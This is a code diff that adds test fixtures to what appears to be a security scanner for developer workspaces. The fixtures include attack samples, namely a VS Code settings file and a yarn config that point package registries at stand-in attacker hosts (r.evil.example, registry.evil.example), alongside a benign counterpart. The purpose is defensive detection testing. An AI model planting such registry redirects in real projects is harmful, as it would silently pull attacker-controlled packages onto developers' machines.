@@ -2269,6 +2269,15 @@ ATTACKS_9: dict[str, tuple[dict[str, Any], str, str]] = {
         "OWS-VSC-002",
         "high",
     ),
+    "vscode-terminal-env-npm-registry": (
+        {
+            ".vscode/settings.json": j(
+                {"terminal.integrated.env.linux": {"npm_config_registry": "http://r.evil.example/"}}
+            )
+        },
+        "OWS-VSC-002",
+        "high",
+    ),
     "yarnrc-scope-http": (
         {".yarnrc.yml": "npmScopes:\n  acme:\n    npmRegistryServer: http://registry.evil.example\n"},
         "OWS-PKG-004",
@@ -2464,6 +2473,16 @@ BENIGN_9: dict[str, dict[str, Any]] = {
                     "PIP_INDEX_URL": "https://pypi.acme-corp.example/simple",
                     "PYTHONPATH": "/workspaces/app/src",
                 },
+            }
+        )
+    },
+    "vscode-terminal-env-pytorch-index": {
+        ".vscode/settings.json": j(
+            {
+                "terminal.integrated.env.linux": {
+                    "PIP_EXTRA_INDEX_URL": "https://download.pytorch.org/whl/cpu",
+                    "npm_config_registry": "https://registry.npmjs.org/",
+                }
             }
         )
     },
